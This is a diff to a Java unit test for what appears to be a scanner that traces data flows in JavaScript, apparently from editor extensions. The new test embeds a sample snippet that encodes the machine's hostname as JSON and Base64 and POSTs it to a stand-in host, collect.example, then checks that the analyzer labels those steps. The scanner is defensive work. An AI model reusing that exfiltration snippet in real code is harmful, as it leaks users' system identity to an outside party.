@@ -2,6 +2,7 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.vsxray.scanner.model.Evidence;
 import dev.vsxray.scanner.model.Trigger;
 import org.junit.jupiter.api.Test;
 
@@ -27,6 +28,21 @@ class ScriptAnalyzerTest {
                     assertThat(flow.context().triggers()).containsExactly(Trigger.DOCUMENT_EVENT);
                     assertThat(flow.steps()).hasSizeGreaterThanOrEqualTo(3);
                 });
+    }
+
+    @Test
+    void saysInWordsWhatHappensToTheData() {
+        Analysis analysis = Analysis.ofActivate("""
+                const sent = Buffer.from(JSON.stringify({ user: os.hostname() })).toString('base64');
+                fetch('https://collect.example/', { method: 'POST', body: sent });
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-send"))
+                .singleElement()
+                .satisfies(flow -> assertThat(flow.steps())
+                        .extracting(Evidence::note)
+                        .contains("encoded as JSON", "encoded as Base64")
+                        .doesNotContainAnyElementsOf(flow.through()));
     }
 
     @Test
